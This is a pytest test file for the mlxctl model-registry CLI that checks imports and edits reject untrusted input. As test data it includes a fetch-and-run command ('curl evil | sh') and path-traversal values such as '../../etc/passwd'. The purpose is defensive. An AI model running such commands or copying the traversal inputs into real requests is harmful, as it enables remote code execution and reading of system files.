"""`registry import`/`set` and `rm` trust nothing they are handed (issue 12, M5/M6/L9)."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest

from mlxctl.registry import ModelRecord, open_registry
from mlxctl.settings import Settings
from tests.cli.runner import Run
from tests.store.store_helpers import commit, folder_files, lay_out_repo, write_model


def registry_file(tmp_path: Path, **entry: Any) -> Path:
    path = tmp_path / "registry.json"
    fields = {"cache_path": str(tmp_path / "model"), **entry}
    path.write_text(json.dumps({"version": 1, "models": {"m": fields}}, indent=1))
    return path


def rows() -> list[ModelRecord]:
    registry = open_registry()
    try:
        return registry.list()
    finally:
        registry.db.close()


def test_an_imported_command_needs_allow_commands(run: Run, tmp_path: Path) -> None:
    shared = registry_file(tmp_path, extra={"command": "sh -c 'curl evil | sh' {port}"})
    refused = run("registry", "import", str(shared))
    assert refused.code == 2
    assert "models.m.extra.command" in refused.err and "--allow-commands" in refused.err
    assert rows() == []
    assert run("registry", "import", str(shared), "--allow-commands").code == 0
    assert rows()[0].extra["command"] == "sh -c 'curl evil | sh' {port}"


@pytest.mark.parametrize(
    ("entry", "needle"),
    [
        ({"chat_template": "/etc/hostname"}, "outside the model store"),
        ({"extra": {"adapter_path": "/etc"}}, "outside the model store"),
        ({"cache_path": "org/repo"}, "is not an absolute path"),
        ({"cache_path": "/models/../etc"}, "is not an absolute path"),
        ({"format": "gguf", "extra": {"gguf_file": "../../etc/passwd"}}, "plain relative path"),
        ({"tool_call_parser": "os"}, "unknown tool call parser 'os'"),
        ({"reasoning_parser": "x"}, "unknown reasoning parser 'x'"),
        (
            {"source": "store", "extra": {"store": {"name": "m:latest", "root": "/"}}},
            "is not a model of this mlxctl's store",
        ),
    ],
)
def test_an_imported_path_gets_the_checks_of_a_local_edit(
    run: Run, tmp_path: Path, entry: dict[str, Any], needle: str
) -> None:
    result = run("registry", "import", str(registry_file(tmp_path, **entry)))
    assert result.code == 2 and needle in result.err, result.err
    assert rows() == []


def test_a_template_kept_in_the_store_round_trips(run: Run, tmp_path: Path) -> None:
    text = tmp_path / "mine.jinja"
    text.write_text("{{ messages }}")
    assert run("registry", "import", str(registry_file(tmp_path))).code == 0
    assert run("registry", "set", "m", "--chat-template", str(text)).code == 0
    (row,) = rows()
    kept = Path(row.chat_template or "")
    assert kept.parent == Settings.from_env().store_dir / "templates"
    text.write_text("changed later")  # a copy: the row's template does not move with it
    assert kept.read_text() == "{{ messages }}"
    exported = tmp_path / "out.json"
    assert run("registry", "export", "-o", str(exported)).code == 0
    assert run("registry", "import", str(exported), "--replace").code == 0


def test_registry_set_needs_the_exact_name_and_known_parsers(run: Run, tmp_path: Path) -> None:
    assert run("registry", "import", str(registry_file(tmp_path))).code == 0
    renamed = run("registry", "set", "mo", "--port", "8100")
    assert renamed.code == 3 and "exactly" in renamed.err
    parser = run("registry", "set", "m", "--tool-call-parser", "../evil")
    assert parser.code == 2 and "unknown tool call parser" in parser.err
    assert rows()[0].port is None and rows()[0].tool_call_parser is None


def test_rm_by_prefix_is_refused(run: Run, tmp_path: Path) -> None:
    write_model(tmp_path / "model")
    assert run("register", str(tmp_path / "model"), "--slug", "model").code == 0
    refused = run("rm", "mod", "-y")
    assert refused.code == 3 and "did you mean: model?" in refused.err
    assert [r.slug for r in rows()] == ["model"]
    assert run("rm", "model", "-y").code == 0 and rows() == []


def test_rm_keeps_files_outside_the_hf_cache(run: Run, tmp_path: Path) -> None:
    # A real cache snapshot, but not in HF_HUB_CACHE: an imported row may name any.
    elsewhere = tmp_path / "someone-elses-cache"
    files = folder_files(write_model(tmp_path / "src"))
    repo = lay_out_repo(elsewhere, "org/Tiny", {commit("t"): files}, {"main": commit("t")})
    snapshot = repo / "snapshots" / commit("t")
    shared = registry_file(tmp_path, cache_path=str(snapshot), source="hf-cache")
    assert run("registry", "import", str(shared)).code == 0
    removed = run("rm", "m", "-y")
    assert removed.code == 0 and "outside the Hugging Face cache" in removed.out
    assert rows() == [] and (snapshot / "config.json").is_file()


def test_mlxctl_home_is_created_for_its_owner_only(run: Run, isolated_home: Path) -> None:
    assert not isolated_home.exists()
    assert run("list").code == 0
    assert stat.S_IMODE(isolated_home.stat().st_mode) == 0o700
